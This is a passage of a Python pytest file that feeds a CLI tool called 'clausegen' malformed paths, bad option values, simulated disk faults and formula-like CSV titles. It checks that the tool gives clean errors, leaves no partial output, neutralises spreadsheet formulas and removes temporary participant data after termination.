    for option, values in BAD_NUMBERS.items():
        argv = {
            "--pdf-timeout": COMMANDS["tender"][0],
            "--jobs": COMMANDS["balance"][0],
            "--lot": ["commitment", str(OPERATION)],
        }[option]
        for index, value in enumerate(values):

            def make(
                tmp: Path, argv: list[str] = argv, option: str = option, value: str = value
            ) -> tuple[list[str], Path]:
                return [*argv, option, value, "-o", str(tmp / "out")], tmp / "out"

            yield "6-options", f"{option[2:]}-{index}", make


def _fault_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
    """Class 7: faults while writing: a file system that fails the moves (all commands),
    and, as root, full and read-only disks."""
    for command, (argv, _) in COMMANDS.items():
        for code in (errno.EIO, errno.ENOSPC):

            def failing_moves(
                tmp: Path, argv: list[str] = argv, code: int = code
            ) -> tuple[list[str], Path]:
                (tmp / "out").mkdir()
                (tmp / "out" / "kept.txt").write_text("earlier")
                tmp.joinpath("FAIL_REPLACE").write_text(str(code))
                return [*argv, "-o", str(tmp / "out")], tmp / "out"

            yield "7-faults", f"{command}-move-{errno.errorcode[code]}", failing_moves
        for size in (4096, 16384, 36864):

            def full(tmp: Path, argv: list[str] = argv, size: int = size) -> tuple[list[str], Path]:
                tmp.joinpath("MOUNT").write_text(f"size={size}")
                return [*argv, "-o", str(tmp / "disk" / "out")], tmp / "disk" / "out"

            yield "7-faults", f"{command}-full-{size}", full

        def read_only(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            tmp.joinpath("MOUNT").write_text("size=65536,ro")
            return [*argv, "-o", str(tmp / "disk" / "out")], tmp / "disk" / "out"

        yield "7-faults", f"{command}-read-only", read_only


def _formula_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
    """Class 8: lot titles a spreadsheet would run, through ``calibrate --format csv``."""
    for index, title in enumerate(FORMULA_TITLES):

        def make(tmp: Path, title: str = title) -> tuple[list[str], Path]:
            operation = tmp / "operation.yaml"
            operation.write_text(yaml.safe_dump(operation_data(intitule=title), allow_unicode=True))
            return ["calibrate", str(operation), "--format", "csv"], tmp / "none"

        yield "8-formulas", f"title-{index}", make


CORPUS = [*_path_cases(), *_option_cases(), *_fault_cases(), *_formula_cases()]


def test_the_corpus_covers_each_class_with_sixty_cases_or_more():
    counts = {kind: sum(1 for k, _, _ in CORPUS if k == kind) for kind, _, _ in CORPUS}
    assert counts == {"5-paths": 49, "6-options": 37, "7-faults": 30, "8-formulas": 18}
    assert sum(counts.values()) >= 60


@pytest.mark.parametrize(
    ("kind", "make"), [(kind, make) for kind, _, make in CORPUS], ids=[n for _, n, _ in CORPUS]
)
def test_hostile_case(kind, make, tmp_path, monkeypatch):
    """No traceback; every error names a file or the option; a failed command leaves its
    output folder as it was (a failed balance of one participant writes nothing either)."""
    argv, out = make(tmp_path)
    mount = tmp_path / "MOUNT"
    if mount.exists():
        if os.geteuid() != 0:
            pytest.skip("mounting a small file system needs root")
        (tmp_path / "disk").mkdir()
        options = mount.read_text()
        read_only = options.endswith(",ro")
        subprocess.run(
            [
                "mount",
                "-t",
                "tmpfs",
                "-o",
                options.removesuffix(",ro"),
                "tmpfs",
                str(tmp_path / "disk"),
            ],
            check=True,
        )
        if read_only:
            subprocess.run(["mount", "-o", "remount,ro", str(tmp_path / "disk")], check=True)
    fail_replace = tmp_path / "FAIL_REPLACE"
    if fail_replace.exists():
        monkeypatch.setattr(Path, "replace", _always(int(fail_replace.read_text())))
    before = snapshot(out)
    try:  # in a forked process (it inherits the patch above), measured like the corpus
        result = run_case([str(arg) for arg in argv], TIME_LIMIT_S)
    finally:
        if mount.exists():
            subprocess.run(["umount", str(tmp_path / "disk")], check=False)
    assert result.traceback is None and "Traceback" not in result.stderr, result.traceback
    assert not result.timed_out and result.seconds <= TIME_LIMIT_S
    assert result.growth_mib <= MAX_GROWTH_MIB, f"grew by {result.growth_mib:.0f} MiB"
    if kind == "8-formulas":
        _assert_neutralised(result)
        return
    assert result.exit_code in (1, 2), result.stdout + result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
    assert errors, result.stderr
    first = errors[0]
    assert (
        str(tmp_path) in first
        or first.startswith("Error: Invalid value for")
        or (kind == "5-paths" and "'-o'" in first)
    ), first
    for line in errors[1:]:  # the summary of a batch of balances
        assert re.fullmatch(r"Error: \d+ of \d+ balances .*", line), line
    if not mount.exists():
        assert snapshot(out) == before


def _assert_neutralised(result) -> None:
    """Accepted and neutralised, or refused with an error naming the operation file."""
    if result.exit_code != 0:
        assert result.exit_code == 1 and "operation.yaml" in result.stderr, result.stderr
        return
    rows = list(csv.reader(io.StringIO(result.stdout)))
    for row in rows[1:]:
        for value in row:
            stripped = value.lstrip(" \u00a0\u202f")
            assert not stripped or stripped[0] not in FORMULA_TRIGGERS or _is_number(value), value


def _is_number(value: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value) is not None


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_full_temporary_folder_stops_the_balances_before_any_is_written(
    small_disk, monkeypatch, tmp_path, jobs
):
    """The participants a batch validates are kept in the temporary folder (``Spool``):
    when it is full, one clear error, nothing written, nothing left there."""
    temporary = small_disk(4096)
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    out = tmp_path / "b"
    result = balance(out, "--jobs", jobs)
    no_traceback(result)
    assert result.exit_code == 1
    assert re.fullmatch(
        rf"Error: {temporary}/clausegen-spool-\w+: cannot be written \(No space left on "
        r"device\): the temporary folder holds the validated input of a large run; free "
        r"some space there, or set TMPDIR to a folder with room\.\n",
        result.stderr,
    ), result.stderr
    assert not out.exists()
    assert list(temporary.iterdir()) == []


def test_a_terminated_balance_run_leaves_no_participants_behind(tmp_path):
    """SIGTERM while the workers validate a large participants file: the temporary folder
    holding the validated participants (personal data) and the staging folder are removed,
    and nothing is written."""
    from bench.balance import generate

    participants, ledger = generate(tmp_path, 3000)
    out, work = tmp_path / "b", tmp_path / "tmp"
    work.mkdir()
    process = subprocess.Popen(
        [
            *(sys.executable, "-m", "clausegen", "balance", str(OPERATION)),
            *(f"--ledger={ledger}", f"--participants={participants}"),
            *("--jobs", "2", "--quiet", "-o", str(out)),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "TMPDIR": str(work)},
    )
    deadline = time.monotonic() + 60
    while not list(work.glob("clausegen-spool-*/*")) and time.monotonic() < deadline:
        time.sleep(0.01)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 143, stderr
    assert "Traceback" not in stderr
    assert list(work.iterdir()) == []
    assert not out.exists()
